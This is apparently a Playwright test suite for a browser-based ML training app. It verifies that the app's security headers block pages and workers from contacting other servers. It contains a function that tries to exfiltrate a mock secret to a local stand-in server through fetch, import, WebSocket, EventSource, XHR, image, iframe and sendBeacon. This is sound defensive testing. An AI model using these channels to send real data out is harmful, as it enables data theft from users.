import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { contentSecurityPolicy } from '#cli/headers.mjs';
import { expect, test as base } from './app.ts';
import { download, expectResults, openSetup, replaceTrainer, train } from './journey.ts';

/** A server that is not Terrarium's, and how often anything knocked at it. */
interface Foreign {
  readonly address: string;
  readonly knocks: () => number;
}

const test = base.extend<{ foreign: Foreign }>({
  foreign: async ({}, use) => {
    let knocks = 0;
    const server = createServer((_, response) => {
      response.setHeader('Content-Type', 'text/html').end('<!doctype html><title>open</title>');
    });
    server.on('request', () => (knocks += 1));
    server.on('upgrade', (_, socket) => {
      knocks += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    await use({ address: `127.0.0.1:${port}`, knocks: () => knocks });
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  },
});

/** A function, as text, that tries every way to send and gives what came of each. */
function attempts(address: string): string {
  return `async function attempts() {
    const way = (name, body) => Promise.resolve().then(body).then(() => name + ' went out', () => name + ' refused');
    const socket = (make, good) => new Promise((resolve, reject) => {
      const one = make();
      one.addEventListener(good, resolve);
      one.addEventListener('error', reject);
    });
    const secret = 'species=Adelie';
    const ways = [
      way('fetch', () => fetch('http://${address}/?' + secret, { mode: 'no-cors' })),
      way('import', () => import('http://${address}/x.js')),
      way('websocket', () => socket(() => new WebSocket('ws://${address}/?' + secret), 'open')),
      way('eventsource', () => socket(() => new EventSource('http://${address}/?' + secret), 'open')),
      way('xhr', () => socket(() => {
        const request = new XMLHttpRequest();
        request.open('POST', 'http://${address}/');
        request.send(secret);
        return request;
      }, 'load')),
    ];
    if (typeof document === 'object') {
      ways.push(way('image', () => socket(() => {
        const image = new Image();
        image.src = 'http://${address}/?' + secret;
        return image;
      }, 'load')));
      ways.push(way('frame', () => new Promise((resolve, reject) => {
        document.addEventListener('securitypolicyviolation', reject);
        const frame = document.createElement('iframe');
        frame.addEventListener('load', () => setTimeout(resolve, 500));
        frame.src = 'http://${address}/?' + secret;
        document.body.append(frame);
      })));
      navigator.sendBeacon('http://${address}/', secret);
    }
    return Promise.all(ways);
  }`;
}

test('a page cannot send anything to another server', async ({ page, foreign }) => {
  await page.goto('./');
  const outcome = await page.evaluate<string[]>(`(${attempts(foreign.address)})()`);
  expect(outcome).toHaveLength(7);
  expect(outcome.filter((one) => !one.endsWith('refused'))).toEqual([]);
  expect(foreign.knocks()).toBe(0);
});

test('a worker cannot send anything to another server', async ({ page, foreign }) => {
  const report = "throw new Error('tried: ' + outcome.join(', '))";
  await replaceTrainer(
    page,
    `${attempts(foreign.address)}; attempts().then((outcome) => setTimeout(() => { ${report}; }))`,
  );
  await openSetup(page, 'penguins.csv', 'species');
  await train(page);
  await expect(page.getByRole('alert')).toContainText(
    'tried: fetch refused, import refused, websocket refused, eventsource refused, xhr refused',
  );
  expect(foreign.knocks()).toBe(0);
});

test('the attempts do arrive where no policy forbids them', async ({ page, foreign }) => {
  await page.goto(`http://${foreign.address}/`);
  const before = foreign.knocks();
  const outcome = await page.evaluate<string[]>(`(${attempts(foreign.address)})()`);
  expect(outcome).toEqual(
    expect.arrayContaining(['fetch went out', 'xhr went out', 'frame went out']),
  );
  expect(foreign.knocks()).toBeGreaterThan(before);
});

/** What every response of a page owes; gives the addresses that were asked for. */
function recordTraffic(page: Page): { readonly origins: Set<string>; readonly bare: string[] } {
  const traffic = { origins: new Set<string>(), bare: [] as string[] };
  page.context().on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    if (protocol !== 'blob:' && protocol !== 'data:') traffic.origins.add(origin);
  });
  page.context().on('response', async (response) => {
    if (!response.url().startsWith('http')) return;
    const headers = response.headers();
    if (
      headers['content-security-policy'] !== contentSecurityPolicy() ||
      headers['cross-origin-opener-policy'] !== 'same-origin' ||
      headers['cross-origin-embedder-policy'] !== 'require-corp'
    ) {
      traffic.bare.push(response.url());
    }
  });
  return traffic;
}

test('the whole journey, under a sub-path, asks only its own server, and each answer carries the policy', async ({
  page,
  served,
}) => {
  const traffic = recordTraffic(page);
  const failed: string[] = [];
  page.on('response', (response) => {
    if (response.status() >= 400) failed.push(`${response.status()} ${response.url()}`);
  });
  const address = await served({ base: '/courses/ml/' });
  await page.goto(address);
  await page.getByRole('button', { name: 'Open Palmer penguins' }).click();
  await page.getByRole('link', { name: 'Setup (open)' }).click();
  await train(page);
  await expectResults(page);
  for (const name of ['model.onnx', 'model-card.md', 'run.json', 'spec.yaml']) {
    await download(page, name);
  }
  await page.reload();
  await expectResults(page);
  await page.getByRole('link', { name: 'Predict with it' }).click();
  await expect(page.getByRole('list', { name: 'Probabilities' })).toBeVisible();
  await page.goto(`${address}#/runs`);
  await expect(page.getByRole('list', { name: 'Runs, newest first' })).toBeVisible();

  expect([...traffic.origins]).toEqual([new URL(address).origin]);
  expect(traffic.bare).toEqual([]);
  expect(failed).toEqual([]);
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
});
